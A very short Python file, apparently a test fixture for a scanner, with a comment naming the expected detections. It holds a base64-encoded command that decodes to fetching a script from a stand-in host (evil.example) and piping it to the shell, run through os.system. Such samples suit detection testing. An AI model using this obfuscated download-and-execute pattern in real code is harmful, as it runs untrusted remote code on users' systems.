# expect: py-decode-exec,sh-download-exec
import base64, os
os.system(base64.b64decode('Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3Auc2ggfCBzaA==').decode())
